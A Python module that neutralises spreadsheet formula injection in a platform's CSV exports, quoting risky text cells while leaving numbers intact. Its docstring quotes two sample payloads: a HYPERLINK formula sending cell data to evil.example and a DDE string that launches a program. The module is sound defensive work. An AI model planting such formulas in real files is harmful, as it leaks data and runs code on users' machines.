"""Every CSV the platform writes, safe to open in a spreadsheet program.

A CSV file is data, but Excel, LibreOffice and Google Sheets run a cell as a formula when
its text begins with `=`, `+`, `-` or `@` (and, in some versions, after a tab or a carriage
return). A portal renamed `=HYPERLINK("https://evil.example/?leak="&B3,"Hà Nội")` then
becomes a link that sends the neighbouring cells away when central staff click it, and
`=cmd|' /C calc'!A0` (DDE) asks to run a program. So, as OWASP advises, a **text** cell that
begins with one of those characters is written with a single quote in front (`'=HYPER…`):
the spreadsheet shows it as text and the data stays readable. Also caught:

- the same characters after leading whitespace (` =1+1`): some programs trim spaces
  (LibreOffice's "trim spaces" import option) before deciding what a cell is;
- their full-width forms (U+FF1D, U+FF0B, U+FF0D, U+FF20), which some East Asian input
  setups turn into the ASCII ones;
- a leading tab, carriage return or line feed, whatever follows.

**Numbers stay numbers**: `int`, `float` and `Decimal` cells are written as they are, so a
negative amount is still `-5` and sums still work. A number that arrives as text (`"-5"`)
is text and is quoted like any other: give numeric columns as numbers.

The file is UTF-8 with a byte order mark (Excel reads Vietnamese correctly only then) and
CRLF line ends (RFC 4180). No module writes CSV any other way: a test fails when a module
under `services/` or `gateway/` imports `csv` itself.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from decimal import Decimal

from starlette.responses import Response

BOM = "\ufeff"
FORMULA_STARTS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")
CONTROL_STARTS = ("\t", "\r", "\n")
_UNSAFE_IN_FILENAME = re.compile(r"[^A-Za-z0-9._-]")

Cell = str | int | float | Decimal | date | datetime | bool | None


def safe_cell(value: Cell) -> str | int | float | Decimal:
    """One cell as it must be written: numbers as they are, text neutralised."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float | Decimal):
        return value
    text = value.isoformat() if isinstance(value, date | datetime) else str(value)
    if text.startswith(CONTROL_STARTS) or text.lstrip()[:1] in FORMULA_STARTS:
        return "'" + text
    return text


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> str:
    """The CSV text (with its byte order mark) of a header and rows, every cell made safe."""
    out = io.StringIO()
    out.write(BOM)
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([safe_cell(name) for name in header])
    for row in rows:
        writer.writerow([safe_cell(value) for value in row])
    return out.getvalue()


def csv_response(
    header: Sequence[str], rows: Iterable[Sequence[Cell]], *, filename: str
) -> Response:
    """A CSV download: `text/csv; charset=utf-8`, an attachment named `filename` (other
    than `A-Z a-z 0-9 . _ -` becomes `_`), private and revalidated (exports are not public)."""
    filename = _UNSAFE_IN_FILENAME.sub("_", filename)
    return Response(
        csv_text(header, rows).encode("utf-8"),
        media_type="text/csv; charset=utf-8",
        headers={
            "Content-Disposition": f'attachment; filename="{filename}"',
            "Cache-Control": "private, no-cache",
        },
    )
